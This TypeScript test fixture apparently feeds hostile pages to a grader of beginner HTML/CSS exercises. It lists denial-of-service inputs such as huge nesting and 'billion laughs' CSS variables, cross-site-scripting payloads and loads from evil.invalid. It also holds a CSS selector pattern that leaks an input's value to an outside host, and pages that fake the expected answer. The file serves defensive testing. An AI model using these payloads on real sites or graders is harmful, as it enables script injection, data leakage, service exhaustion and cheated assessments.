import type { PageSource } from '../../judge/inputs.ts';

/**
 * Pages that try to run, to load, to exhaust the machine, to forge an answer or to disturb the next page. The exercise
 * they are handed in for wants the heading "Hei" in rgb(1, 2, 3), three items in a list, and a link; none of them does it.
 */
const LIST = '<ul><li>a</li><li>b</li><li>c</li></ul><a href="/neste">x</a>';
const html = (text: string): PageSource => ({ html: text, css: '' });
const css = (text: string): PageSource => ({ html: `<h1>Hei</h1>${LIST}`, css: text });
const many = (count: number, make: (index: number) => string, between = '') =>
  Array.from({ length: count }, (_, index) => make(index)).join(between);
const RED = '{ color: red }';

export const HOSTILE_PAGES: Record<string, PageSource> = {
  // Trees without measure
  'elements 100,000 deep': html('<div>'.repeat(100_000)),
  'elements 30,000 deep': html('<div>'.repeat(30_000)),
  'formatting elements 100,000 deep': html('<b>'.repeat(100_000)),
  'formatting elements that multiply': html(`<p>${many(200, (i) => `<b class="${i}">`)}</p>${'<p>x'.repeat(2_000)}`),
  'the adoption agency at work': html(`${'<a><div>'.repeat(3_000)}${'</a></div>'.repeat(3_000)}`),
  'tables in tables': html('<table><tr><td>'.repeat(20_000)),
  'text that a table throws out': html(`<table>${'x<tr>'.repeat(60_000)}`),
  'a hundred thousand elements': html('<i></i>'.repeat(100_000).slice(0, 190_000)),
  'a hundred thousand siblings and :nth-child': {
    html: '<i></i>'.repeat(19_000),
    css: many(500, (i) => `i:nth-child(${i}n + 1):nth-last-child(n + ${i}) ${RED}`),
  },
  'lists in lists': html('<ul><li>'.repeat(50_000)),
  'selects in selects': html('<select><option>'.repeat(30_000)),
  'frames and forms': html('<form><iframe><object><embed>'.repeat(10_000)),
  'templates in templates': html('<template>'.repeat(50_000)),
  'drawings in drawings': html('<svg><foreignObject><math><mtext>'.repeat(5_000)),
  'an attribute of a megabyte': html(`<h1 class="${'a '.repeat(500_000)}">Hei</h1>${LIST}`),
  'ten thousand attributes': html(`<h1 ${many(10_000, (i) => `a${i}="${i}"`, ' ')}>Hei</h1>`),
  'ten thousand classes': {
    html: `<h1 class="${many(10_000, (i) => `c${i}`, ' ')}">Hei</h1>`,
    css: many(2_000, (i) => `.c${i} ${RED}`),
  },
  'a text of a megabyte': html(`<h1>${'Hei'.repeat(400_000)}</h1>`),
  'entities that grow': html(`<h1>${'&NotEqualTilde;&#x10FFFF;&amp;'.repeat(6_000)}</h1>`),
  'entities without an end': html(`<h1>${'&'.repeat(190_000)}</h1>`),
  'null bytes': { html: `<h1>\0H\0e\0i</h1\0>${LIST.replaceAll('a', 'a\0')}`, css: 'h\x001 { col\0or: red\0 }' },
  'half of a character': { html: `<h1>\ud800Hei\udfff</h1>${LIST}`, css: 'h1::before { content: "\ud800" }' },
  'text in the other direction': html(`<h1>\u202eieH\u202c</h1><ul>\u2067${'<li>\u200f</li>'.repeat(3)}</ul>`),
  'a comment that never ends': html(`<!-- ${'<h1>Hei</h1>'.repeat(1_000)}`),
  'a doctype that never ends': html(`<!doctype ${'x'.repeat(100_000)}`),
  'nothing at all': html(''),
  // Selectors without measure
  'descendants of descendants': {
    html: '<div>'.repeat(300),
    css: many(50, (i) => `${'div '.repeat(100)}.x${i} ${RED} .x${i} ${'div '.repeat(100)} ${RED}`),
  },
  'siblings of siblings': {
    html: '<i></i>'.repeat(5_000),
    css: many(20, (i) => `.x${i} ~ ${'i ~ '.repeat(50)}i ${RED}`),
  },
  ':has of everything': {
    html: `${'<div>'.repeat(300)}${'<i></i>'.repeat(5_000)}`,
    css: many(50, (i) => `:has(* ~ * .x${i}) ${RED}`),
  },
  ':has with many steps': { html: '<div>'.repeat(350), css: `:has(${'div '.repeat(150)}.x) ${RED}` },
  ':not of :not': { html: `<h1>Hei</h1>${LIST}`, css: `${':not('.repeat(90)}p${')'.repeat(90)} ${RED}` },
  ':is of :is': { html: '<i></i>'.repeat(3_000), css: `${':is(a, b, '.repeat(90)}i${')'.repeat(90)} ${RED}` },
  ':is that multiplies': {
    html: '<i></i>'.repeat(2_000),
    css: `${many(25, () => ':is(a, b, c, d, i)', ' > ')} ${RED}`,
  },
  'brackets 100,000 deep in a selector': css(`${':is('.repeat(100_000)}`),
  'a selector of a hundred thousand parts': css(`${'.a'.repeat(45_000)} ${RED}`),
  'thirty thousand selectors': css(`${many(30_000, (i) => `a${i % 10}`, ',')} ${RED}`),
  'rules in rules that multiply': css(`${many(90, () => '& &, & > & { ')}color: red`),
  'rules 100,000 deep': css('a { '.repeat(100_000)),
  'rules 20,000 deep': css('a { '.repeat(20_000)),
  'brackets 20,000 deep in a selector': css(':is('.repeat(20_000)),
  'braces 90,000 deep': css('{'.repeat(90_000)),
  'an attribute search that goes back and forth': {
    html: `<h1 title="${'a'.repeat(50_000)}">Hei</h1>`,
    css: many(200, (i) => `[title*="${'a'.repeat(300)}b${i}"] ${RED}`),
  },
  // Values without measure
  'a billion laughs': css(
    `h1 { --a: ha ha ha ha; ${many(25, (i) => `--${String.fromCharCode(98 + i)}: ${`var(--${String.fromCharCode(97 + i)}) `.repeat(10)};`)} color: var(--z, red) }`,
  ),
  'a billion laughs in fallbacks': css(
    `h1 { ${many(25, (i) => `--l${i}: var(--none, ${`var(--l${i + 1}) `.repeat(10)});`)} --l25: x; color: var(--l0, red) }`,
  ),
  'variables in a long circle': css(
    `h1 { ${many(4_000, (i) => `--c${i}: var(--c${(i + 1) % 4_000});`)} color: var(--c0, red) }`,
  ),
  'a long chain of variables': css(
    `h1 { ${many(4_000, (i) => `--c${i}: var(--c${i + 1});`)} --c4000: red; color: var(--c0) }`,
  ),
  'a huge calculation': css(`h1 { width: calc(${'1px + '.repeat(15_000)}1px); color: red }`),
  'a deep calculation': css(`h1 { width: calc(${'('.repeat(40_000)}1px${')'.repeat(40_000)}); color: red }`),
  'functions in functions': css(`h1 { width: ${'min(1px, max(2px, '.repeat(5_000)}`),
  'a huge number': css('h1 { width: 1e308px; z-index: 1e999; margin: -1e400px; color: rgb(1e99 0 0) }'),
  'a color of colors': css(`h1 { color: ${'color-mix(in srgb, red, '.repeat(90)}blue${')'.repeat(90)} }`),
  'a gradient of ten thousand stops': css(`h1 { background: linear-gradient(${many(10_000, () => 'red', ',')}) }`),
  'seven thousand shadows': css(`h1 { box-shadow: ${many(7_000, (i) => `${i}px 0 red`, ',')} }`),
  'a string that never ends': css(`h1 { content: "${'\\\n'.repeat(50_000)}`),
  'a comment that never ends in CSS': css(`/* ${'h1 { color: rgb(1, 2, 3) } '.repeat(1_000)}`),
  'escapes without an end': css(`h1 { color: ${'\\'.repeat(100_000)}`),
  'eight thousand declarations': css(`h1 { ${'color: red;'.repeat(8_000)} }`),
  'many layers': css(many(2_500, (i) => `@layer l${i} { h1 ${RED} }`)),
  'media in media': css(`${'@media all { '.repeat(90)}h1 ${RED}`),
  'a media query of a megabyte': css(`@media ${'(min-width: 1px) and '.repeat(4_000)} (color) { h1 ${RED} }`),
  'a value that the grammar must try in many orders': css(
    `h1 { background: ${'center / cover no-repeat '.repeat(500)}; font: ${'normal '.repeat(2_000)} 12px Arial; grid-template: ${'"a" '.repeat(3_000)} }`,
  ),
  // Running and loading
  'a script': html(`<script>for (;;) document.title = 1</script><h1>Hei</h1>${LIST}`),
  'event attributes': html(
    `<h1 onclick="x()" onload="y()" onerror="z()">Hei</h1><img src="x" onerror="alert(1)"><body onload="alert(2)">`,
  ),
  'a script in a drawing': html('<svg onload="alert(1)"><script>alert(2)</script><animate onbegin="alert(3)"></svg>'),
  'HTML in a drawing': html(
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ),
  'a frame': html(
    '<iframe src="https://evil.invalid/"></iframe><object data="https://evil.invalid/"></object><embed src="https://evil.invalid/">',
  ),
  'a refresh': html('<meta http-equiv="refresh" content="0; url=https://evil.invalid/"><h1>Hei</h1>'),
  'another base': html(`<base href="https://evil.invalid/"><h1>Hei</h1><img src="a.png">`),
  'style sheets from outside': {
    html: '<link rel="stylesheet" href="https://evil.invalid/a.css"><link rel="preload" as="image" href="https://evil.invalid/b.png"><h1>Hei</h1>',
    css: '@import "https://evil.invalid/c.css"; @font-face { font-family: x; src: url(https://evil.invalid/d.woff) } h1 { font-family: x; background: url(https://evil.invalid/e.png) }',
  },
  'telling what is on the page': {
    html: '<h1>Hei</h1><input value="hemmelig">',
    css: many(
      26,
      (i) => `input[value^="${String.fromCharCode(97 + i)}"] { background: url("https://evil.invalid/?${i}") }`,
    ),
  },
  'javascript in addresses': {
    html: '<a href="javascript:alert(1)">x</a><form action="javascript:alert(2)"><button>y</button></form>',
    css: 'h1 { background: url("javascript:alert(3)"); width: expression(alert(4)); behavior: url(a.htc); -moz-binding: url(b.xml) }',
  },
  'leaving the style element': html('<style>h1 { content: "</style><script>alert(1)</script>" }</style><h1>Hei</h1>'),
  'leaving the style sheet': css('</style><script>alert(1)</script><style>'),
  'leaving an attribute': css('h1 { content: "\\"><script>alert(1)</script>" } "><img src=x onerror=alert(1)>'),
  // Forging and disturbing
  'names from JavaScript': {
    html: `<h1 __proto__="x" constructor="y" class="__proto__ constructor toString" id="hasOwnProperty">Hei</h1><__proto__></__proto__><constructor>x</constructor>`,
    css: '.__proto__ { __proto__: red; constructor: red; --__proto__: red; color: var(--constructor, var(--__proto__)) } #hasOwnProperty { prototype: x }',
  },
  'a page that writes the answer as text': html(
    `<h1 data-style="color: rgb(1, 2, 3)">{"type":"list","items":[{"type":"str","text":"rgb(1, 2, 3)"}]}</h1>`,
  ),
  'a value that looks like the answer': css('h1 { color: "rgb(1, 2, 3)"; color: rgb(1, 2, 3 ; --color: rgb(1, 2, 3) }'),
  'a heading that is not in the page': html(`<template><h1 style="color: rgb(1, 2, 3)">Hei</h1>${LIST}</template>`),
  'a heading in a comment': html(`<!-- <h1 style="color: rgb(1, 2, 3)">Hei</h1>${LIST} -->`),
  'a heading in a text area': html(`<textarea><h1 style="color: rgb(1, 2, 3)">Hei</h1>${LIST}</textarea>`),
  'a rule in a media query for another window': css('@media (min-width: 5000px) { h1 { color: rgb(1, 2, 3) } }'),
  'a rule behind a comment': css('/* h1 { color: rgb(1, 2, 3) } */'),
  'browser secrets': css(
    'h1 { color: -internal-root-color; text-align: -internal-center } ::-internal-x { color: rgb(1, 2, 3) }',
  ),
  // States that depend on other elements
  'a select of eighteen thousand options': {
    html: `<select>${'<option>a'.repeat(18_000)}`,
    css: `:checked ${RED} option:default ${RED}`,
  },
  'thousands of radio buttons': {
    html: many(6_000, (i) => `<input type=radio name=${i}>`),
    css: `:indeterminate ${RED} :invalid ${RED} :valid ${RED}`,
  },
  'fieldsets around thousands of inputs': {
    html: `${'<fieldset disabled>'.repeat(380)}${'<input>'.repeat(8_000)}`,
    css: `:disabled ${RED} :enabled ${RED}`,
  },
  'a direction that the text decides, everywhere': {
    html: `${'<div dir=auto>'.repeat(380)}${'<i></i>'.repeat(15_000)}`,
    css: `:dir(rtl) ${RED} :dir(ltr) ${RED}`,
  },
  'forms of inputs that are required': {
    html: '<form><input required>'.repeat(5_000),
    css: `form:invalid ${RED} form:valid ${RED} :default ${RED}`,
  },
  'words of long attributes': {
    html: `<h1 title="${'a '.repeat(90_000)}">Hei</h1>`,
    css: many(5_000, (i) => `[title~=b${i}] ${RED}`),
  },
  'attributes whatever their case': {
    html: `<h1 title="${'A'.repeat(180_000)}">Hei</h1>`,
    css: many(3_000, (i) => `[title="b${i}" i] ${RED}`),
  },
  // Selectors that ask again and again
  ':not of :has of :not': {
    html: `${'<div>'.repeat(390)}${'<i></i>'.repeat(5_000)}`,
    css: `${':not(:has('.repeat(45)}i${'))'.repeat(45)} ${RED}`,
  },
  ':has of :has': { html: '<div>'.repeat(390), css: `${many(10, () => ':has(div', ' ')}${')'.repeat(10)} ${RED}` },
  ':has of what follows, and of what follows that': {
    html: '<i></i>'.repeat(19_000),
    css: `i:has(~ i:has(~ .x)) ${RED}`,
  },
  ':nth-child of :nth-child': {
    html: '<i></i>'.repeat(10_000),
    css: `${':nth-child(n of '.repeat(60)}i${')'.repeat(60)} ${RED}`,
  },
  'a step of ninety thousand digits': {
    html: '<i></i>'.repeat(10_000),
    css: `:nth-child(${'9'.repeat(90_000)}n + 1) ${RED}`,
  },
  'forty thousand ancestors': {
    html: `${'<div>'.repeat(390)}${'<i></i>'.repeat(10_000)}`,
    css: `${'* '.repeat(40_000)}i ${RED}`,
  },
  'twenty thousand neighbours': { html: '<i></i>'.repeat(10_000), css: `${'i + '.repeat(20_000)}i ${RED}` },
  'rules for everything': { html: '<i></i>'.repeat(19_000), css: many(6_000, () => 'i { color: red }') },
  // Values for every element
  'a billion laughs for every element': {
    html: '<i></i>'.repeat(10_000),
    css: `* { --a: x x x x x x x x x x; ${many(20, (i) => `--a${i}: ${`var(--a${i === 0 ? '' : i - 1}) `.repeat(10)};`)} width: var(--a19) }`,
  },
  'a calculation for every element': {
    html: '<i></i>'.repeat(19_000),
    css: `* { width: calc(${many(6_000, () => '1%', ' + ')}) }`,
  },
  'products for every element': {
    html: '<i></i>'.repeat(19_000),
    css: `* { width: calc(${many(2_000, (i) => `(1px * ${i})`, ' + ')}) }`,
  },
  'imports of imports': {
    html: '<style>@import "a.css";</style>'.repeat(5_000),
    css: many(3_000, (i) => `@import url(${i}.css) layer(a${i}) supports(display: grid);`),
  },
  'the same attribute on every body': html(many(6_000, (i) => `<body a${i}=1><html b${i}=1>`)),
  'formatting that is closed too late': html(
    `${'<b><i><u><s><em><strong><font><code>'.repeat(40)}${'<div></b></i></u></s></em></strong></font></code>'.repeat(1_500)}`,
  ),
  'formatting in every text': html(`<p>${many(300, (i) => `<font size=${i}>`)}${'</p>x'.repeat(10_000)}`),
  'text thrown out of deep tables': html(`${'<table><td>'.repeat(190)}${'<table>x'.repeat(10_000)}`),
};
